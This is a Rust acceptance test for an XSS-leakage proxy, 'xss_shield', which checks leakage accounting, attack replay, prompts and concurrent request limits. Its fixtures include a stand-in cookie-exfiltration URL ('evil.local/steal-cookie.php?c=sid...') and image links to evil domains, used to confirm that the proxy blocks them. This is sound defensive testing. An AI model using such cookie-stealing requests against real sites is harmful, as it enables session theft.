//! End-to-end acceptance run. Prints one PASS/FAIL line per criterion and
//! exits non-zero if any fails.

mod common;

use std::collections::{BTreeSet, HashMap};
use std::future::Future;
use std::pin::Pin;
use std::time::{Duration, Instant};

use common::golden::{check_extraction_fixtures, check_injection_corpus, html_document};
use common::oracle::enumerate_tuples;
use common::popup::check_popup_harness;
use common::*;
use http::StatusCode;
use num_bigint::BigUint;
use proptest::test_runner::{Config as PropConfig, TestRunner};
use xss_shield::extract::extract_static_links;
use xss_shield::leakage::{distinct_values, leakage_table, max_requests_within};
use xss_shield::{AbsoluteUrl, Config, RunningProxy};

const TABLE_BUDGET: Duration = Duration::from_secs(1);
const ORACLE_BUDGET: Duration = Duration::from_secs(5);
const ORACLE_MAX_N: u32 = 10;
const DEDUP_CASES: u32 = 256;
const CONCURRENT_REQUESTS: usize = 100;
const CONCURRENCY_REPEATS: usize = 10;
const STRESS_LINKS: usize = 16;
const STRESS_THRESHOLD: u64 = 20;
const PROMPT_TIMEOUT: Duration = Duration::from_millis(300);

type Outcome = Result<String, String>;
type Check = Pin<Box<dyn Future<Output = Outcome>>>;

macro_rules! ensure {
    ($cond:expr, $($msg:tt)+) => {
        if !$cond {
            return Err(format!($($msg)+));
        }
    };
}

async fn table_for_eight() -> Outcome {
    let want: [(u64, u64, u64); 8] = [
        (1, 8, 3),
        (2, 56, 5),
        (3, 336, 8),
        (4, 1680, 10),
        (5, 6720, 12),
        (6, 20160, 14),
        (7, 40320, 15),
        (8, 40320, 15),
    ];
    let started = Instant::now();
    let rows = leakage_table(8);
    let elapsed = started.elapsed();
    ensure!(rows.len() == 8, "{} rows", rows.len());
    for (row, (r, i, bits)) in rows.iter().zip(want) {
        ensure!(
            row.requests == r && row.distinct_values == BigUint::from(i) && row.bits == bits,
            "r={r}: got ({}, {}), want ({i}, {bits})",
            row.distinct_values,
            row.bits
        );
    }
    ensure!(elapsed < TABLE_BUDGET, "took {elapsed:?}");
    Ok(format!("8 rows exact in {elapsed:?}"))
}

async fn multi_domain_replay() -> Outcome {
    ensure!(max_requests_within(8, 11) == 4, "max_requests_within(8, 11) = {}", max_requests_within(8, 11));
    let mut pages = HashMap::from([("site.local/guestbook".to_owned(), Page::html(attack_page()))]);
    for link in attack_links() {
        pages.insert(link.trim_start_matches("http://").to_owned(), Page::typed("image/jpeg", "jpg"));
    }
    let origin = start_origin(pages).await;
    let mut config = Config::default()
        .ephemeral()
        .with_threshold(11)
        .with_alert_timeout(PROMPT_TIMEOUT)
        .with_upstream("site.local", origin.addr);
    for i in 1..=8 {
        config = config.with_upstream(&format!("evil{i}.com"), origin.addr);
    }
    let proxy = RunningProxy::start(config).await.map_err(|e| e.to_string())?;
    let page = "http://site.local/guestbook";
    let reply = proxy_get(proxy.proxy_addr, page, None).await;
    ensure!(reply.status == StatusCode::OK, "page status {}", reply.status);

    let mut outcomes = Vec::new();
    for link in attack_links().iter().take(5) {
        let r = proxy_get(proxy.proxy_addr, link, Some(page)).await;
        outcomes.push((r.status, r.reason().map(str::to_owned)));
    }
    let forwarded = outcomes.iter().filter(|(s, _)| *s == StatusCode::OK).count();
    ensure!(forwarded == 4 && outcomes[..4].iter().all(|(s, _)| *s == StatusCode::OK), "outcomes {outcomes:?}");
    ensure!(
        outcomes[4] == (StatusCode::FORBIDDEN, Some("leakage-threshold".to_owned())),
        "fifth request {:?}",
        outcomes[4]
    );
    let snap = proxy.shield.snapshot();
    ensure!(snap.contexts.len() == 1, "{} contexts", snap.contexts.len());
    let ctx = &snap.contexts[0];
    ensure!((ctx.n, ctx.r, ctx.bits) == (8, 4, 10), "context n={} r={} bits={}", ctx.n, ctx.r, ctx.bits);
    ensure!(snap.counters.prompted == 0, "{} prompts", snap.counters.prompted);
    let upstream_images = origin.hits.lock().iter().filter(|h| h.starts_with("evil")).count();
    ensure!(upstream_images == 4, "{upstream_images} image fetches reached upstream");
    Ok("max r = 4 at 11 bits; 4 forwarded, 5th denied leakage-threshold; ledger 10 bits".to_owned())
}

async fn tuple_oracle() -> Outcome {
    let started = Instant::now();
    let mut pairs = 0;
    for n in 0..=ORACLE_MAX_N {
        for r in 0..=n {
            let want = BigUint::from(enumerate_tuples(n, r));
            let got = distinct_values(n as u64, r as u64).map_err(|e| e.to_string())?;
            ensure!(got == want, "n={n} r={r}: {got} != {want}");
            pairs += 1;
        }
    }
    let elapsed = started.elapsed();
    ensure!(elapsed < ORACLE_BUDGET, "took {elapsed:?}");
    Ok(format!("{pairs} (n, r) pairs equal enumeration in {elapsed:?}"))
}

async fn pipeline_scenarios() -> Outcome {
    let site = start_origin(HashMap::from([
        (
            "www.site.local/".to_owned(),
            Page::html("<html><head></head><body><img src=\"http://evil.local/banner.png\"></body></html>"),
        ),
        (
            "client1.site.local/".to_owned(),
            Page::html("<html><head></head><body><p>client</p></body></html>"),
        ),
        ("www.site.local/style.css".to_owned(), Page::typed("text/css", "p{}")),
    ]))
    .await;
    let evil = start_origin(HashMap::from([
        ("evil.local/banner.png".to_owned(), Page::typed("image/png", "png")),
        ("evil.local/steal-cookie.php?c=sid%3D42".to_owned(), Page::typed("text/plain", "stolen")),
    ]))
    .await;
    let config = Config::default()
        .ephemeral()
        .with_alert_timeout(PROMPT_TIMEOUT)
        .with_upstream("site.local", site.addr)
        .with_upstream("evil.local", evil.addr);
    let proxy = RunningProxy::start(config).await.map_err(|e| e.to_string())?;
    let p = proxy.proxy_addr;

    // (a) request to a site in no inventory: prompt, then deny on timeout.
    proxy_get(p, "http://www.site.local/", None).await;
    let mgmt = proxy.mgmt_addr;
    let held = tokio::spawn(async move {
        proxy_get(p, "http://evil.local/steal-cookie.php?c=sid%3D42", Some("http://www.site.local/")).await
    });
    let (_, alerts) = api(mgmt, "GET", "/api/alerts?wait=1", None).await;
    let pending = alerts["alerts"].as_array().cloned().unwrap_or_default();
    ensure!(
        pending.len() == 1 && pending[0]["request_url"] == "http://evil.local/steal-cookie.php?c=sid%3D42",
        "pending alerts {pending:?}"
    );
    let started = Instant::now();
    let reply = held.await.map_err(|e| e.to_string())?;
    ensure!(
        reply.status == StatusCode::FORBIDDEN && reply.reason() == Some("no-rule"),
        "held request ended {} {:?}",
        reply.status,
        reply.reason()
    );
    ensure!(started.elapsed() < PROMPT_TIMEOUT * 4, "timeout took {:?}", started.elapsed());
    ensure!(
        !evil.hits.lock().iter().any(|h| h.contains("steal-cookie")),
        "cookie request reached evil.local"
    );
    let prompts_after_a = proxy.shield.counters().prompted;

    // (b) same registrable domain, different host.
    proxy_get(p, "http://client1.site.local/", None).await;
    let sub = proxy_get(p, "http://www.site.local/style.css", Some("http://client1.site.local/")).await;
    ensure!(sub.status == StatusCode::OK, "local subresource status {}", sub.status);
    ensure!(proxy.shield.counters().prompted == prompts_after_a, "local subresource prompted");
    ensure!(proxy.shield.counters().by_reason.get("local-link") == Some(&1), "not classified local");

    // (c) static external link.
    let page = AbsoluteUrl::parse("http://www.site.local/").unwrap();
    let r_before = proxy.shield.context_for_url(&page).map(|c| c.r).unwrap_or(99);
    let img = proxy_get(p, "http://evil.local/banner.png", Some("http://www.site.local/")).await;
    ensure!(img.status == StatusCode::OK, "static link status {}", img.status);
    ensure!(proxy.shield.counters().prompted == prompts_after_a, "static link prompted");
    let r_after = proxy.shield.context_for_url(&page).map(|c| c.r).unwrap_or(99);
    ensure!((r_before, r_after) == (0, 1), "ledger r {r_before} -> {r_after}");
    Ok("(a) prompt then timeout deny, (b) local forward, (c) static forward with r 0 -> 1".to_owned())
}

async fn injection_suite() -> Outcome {
    let docs = check_injection_corpus()?;
    ensure!(docs == 20, "corpus has {docs} documents");
    let cases = check_popup_harness()?;
    Ok(format!("{docs} documents placed, preserved, idempotent; {cases} pop-up cases"))
}

async fn extraction_suite() -> Outcome {
    let fixtures = check_extraction_fixtures()?;
    let page = AbsoluteUrl::parse("http://www.site.local/dir/page.html").unwrap();
    let mut runner = TestRunner::new(PropConfig {
        cases: DEDUP_CASES,
        failure_persistence: None,
        ..PropConfig::default()
    });
    runner
        .run(&html_document(), |doc| {
            let once = extract_static_links(doc.as_bytes(), &page);
            let twice = extract_static_links(format!("{doc}{doc}").as_bytes(), &page);
            proptest::prop_assert_eq!(&once.external_links, &twice.external_links);
            proptest::prop_assert_eq!(&once.local_links, &twice.local_links);
            proptest::prop_assert_eq!(&once.frames, &twice.frames);
            Ok(())
        })
        .map_err(|e| e.to_string())?;
    Ok(format!("{fixtures} golden sets exact; doc+doc = doc over {DEDUP_CASES} cases"))
}

async fn concurrent_ledger() -> Outcome {
    let links: Vec<String> = (0..STRESS_LINKS).map(|i| format!("http://img{i}.cdn{i}.test/p.gif")).collect();
    let doc: String = links.iter().map(|l| format!("<img src=\"{l}\">\n")).collect();
    let r_max = max_requests_within(STRESS_LINKS as u64, STRESS_THRESHOLD);
    ensure!(r_max > 0 && r_max < STRESS_LINKS as u64, "threshold gives r_max {r_max}");
    let mut pages = HashMap::from([("stress.local/".to_owned(), Page::html(doc))]);
    for l in &links {
        pages.insert(l.trim_start_matches("http://").to_owned(), Page::typed("image/gif", "GIF89a"));
    }
    let origin = start_origin(pages).await;

    for round in 0..CONCURRENCY_REPEATS {
        let mut config = Config::default()
            .ephemeral()
            .with_threshold(STRESS_THRESHOLD)
            .with_alert_timeout(PROMPT_TIMEOUT)
            .with_upstream("stress.local", origin.addr);
        for i in 0..STRESS_LINKS {
            config = config.with_upstream(&format!("cdn{i}.test"), origin.addr);
        }
        let proxy = RunningProxy::start(config).await.map_err(|e| e.to_string())?;
        proxy_get(proxy.proxy_addr, "http://stress.local/", None).await;
        let tasks: Vec<_> = (0..CONCURRENT_REQUESTS)
            .map(|i| {
                let link = links[(i * 7 + round) % STRESS_LINKS].clone();
                let addr = proxy.proxy_addr;
                tokio::spawn(async move {
                    let r = proxy_get(addr, &link, Some("http://stress.local/")).await;
                    (link, r.status, r.reason().map(str::to_owned))
                })
            })
            .collect();
        let mut forwarded = BTreeSet::new();
        for t in tasks {
            let (link, status, reason) = t.await.map_err(|e| e.to_string())?;
            match status {
                StatusCode::OK => {
                    forwarded.insert(link);
                }
                StatusCode::FORBIDDEN if reason.as_deref() == Some("leakage-threshold") => {}
                other => return Err(format!("round {round}: unexpected {other} {reason:?}")),
            }
        }
        let ctx = proxy.shield.contexts();
        ensure!(ctx.len() == 1, "round {round}: {} contexts", ctx.len());
        let r = ctx[0].r;
        ensure!(r <= r_max, "round {round}: r = {r} exceeds {r_max}");
        ensure!(r == r_max, "round {round}: r = {r}, budget allows {r_max}");
        ensure!(forwarded.len() as u64 == r, "round {round}: {} distinct forwarded, ledger r {r}", forwarded.len());
        ensure!(ctx[0].bits <= STRESS_THRESHOLD, "round {round}: bits {}", ctx[0].bits);
    }
    Ok(format!(
        "{CONCURRENCY_REPEATS} x {CONCURRENT_REQUESTS} concurrent requests, ledger r = r_max = {r_max} every round"
    ))
}

fn main() {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(4)
        .enable_all()
        .build()
        .expect("runtime");
    let checks: Vec<(&str, Check)> = vec![
        ("leakage table for n = 8", Box::pin(table_for_eight())),
        ("multi-domain attack replay", Box::pin(multi_domain_replay())),
        ("distinct values match tuple enumeration", Box::pin(tuple_oracle())),
        ("pipeline scenarios", Box::pin(pipeline_scenarios())),
        ("injection suite", Box::pin(injection_suite())),
        ("extraction suite", Box::pin(extraction_suite())),
        ("concurrent ledger atomicity", Box::pin(concurrent_ledger())),
    ];
    let mut failed = 0;
    for (name, check) in checks {
        match runtime.block_on(check) {
            Ok(detail) => println!("PASS  {name}: {detail}"),
            Err(why) => {
                failed += 1;
                println!("FAIL  {name}: {why}");
            }
        }
    }
    if failed > 0 {
        println!("{failed} acceptance criteria failed");
        std::process::exit(1);
    }
    println!("all acceptance criteria passed");
}
